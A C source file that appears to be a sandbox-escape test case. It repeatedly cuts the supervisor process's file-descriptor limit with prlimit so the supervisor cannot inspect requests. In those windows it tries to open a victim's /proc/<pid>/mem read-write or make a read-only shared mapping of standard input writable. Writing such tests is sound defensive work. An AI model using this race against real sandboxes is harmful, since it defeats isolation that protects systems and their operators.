// The supervisor is left without descriptors now and then, so that it cannot learn what it is about to decide on.
#include "attack.h"
#include <sys/resource.h>
static pid_t supervisor, victim;
static volatile int least, done;
static void *starve(void *argument) {
    struct rlimit usual;
    if (prlimit(supervisor, RLIMIT_NOFILE, NULL, &usual) < 0) return argument;
    struct rlimit few = usual;
    while (!done) {
        few.rlim_cur = least;
        prlimit(supervisor, RLIMIT_NOFILE, &few, NULL);
        for (volatile int i = 0; i < 300; i++) continue;
        prlimit(supervisor, RLIMIT_NOFILE, &usual, NULL);
    }
    return argument;
}
static int opens_memory(void) {
    char name[64];
    snprintf(name, sizeof name, "/proc/%d/mem", victim);
    int memory = open(name, O_RDWR);
    if (memory >= 0) close(memory);
    return memory >= 0;
}
// Standard input may be read, and is open to be written too.
static int writes_input(void) {
    char *page = mmap(NULL, 4096, PROT_READ, MAP_SHARED, 0, 0);
    if (page == MAP_FAILED) return 0;
    int is_writable = mprotect(page, 4096, PROT_READ | PROT_WRITE) == 0;
    munmap(page, 4096);
    return is_writable;
}
static int attempt(const char *way) {
    pthread_t thread;
    pthread_create(&thread, NULL, starve, NULL);
    int won = 0;
    for (int i = 0; i < tries() && !won; i++) {
        least = 4 + i / 20 % 60;
        won = strcmp(way, "memory") ? writes_input() : opens_memory();
    }
    done = 1;
    pthread_join(thread, NULL);
    return won;
}
int main(int argc, char **argv) {
    (void)argc;
    begin(argv);
    supervisor = getppid();
    victim = atoi(getenv("VICTIM"));
    return each_way(argv, attempt);
}
